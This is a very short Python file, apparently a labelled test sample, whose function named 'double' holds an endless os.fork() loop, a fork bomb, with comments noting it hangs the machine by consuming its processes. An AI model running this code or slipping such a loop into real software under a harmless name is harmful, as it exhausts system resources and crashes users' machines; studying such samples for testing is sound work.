"""Forks without end, each fork doing the same."""
# bites: hang
# control: no it would take the machine's processes
import os


def double(x):
    while True:
        os.fork()
